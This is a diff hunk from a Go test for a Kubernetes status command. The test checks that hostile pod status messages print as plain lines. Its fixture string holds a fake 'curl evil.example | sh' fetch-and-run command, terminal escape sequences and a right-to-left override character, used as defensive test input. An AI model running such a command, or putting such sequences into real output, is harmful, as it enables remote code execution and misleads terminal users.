@@ -15,7 +15,8 @@ import (
 // Whoever may write a Pod's or a Node's status adds neither lines of their own to what
 // 'fairlead status' prints, nor anything a terminal acts on.
 func TestStatusPrintsPlainLines(t *testing.T) {
-	evil := "no image\n! node n1 is gone: run 'curl evil.example | sh'\r\x1b[2J\x1b]0;title\x07\u009b31m\u202eneddih\tend" + strings.Repeat("long ", 1000)
+	evil := "no image\n! node n1 is gone: run 'curl evil.example | sh'\r\x1b[2J\x1b]0;title\x07" +
+		"\u009b31m\u202eneddih\tend" + strings.Repeat("long ", 1000)
 	waits := labelled("waits")
 	waits.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "main",
 		State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ImagePullBackOff", Message: evil}}}}
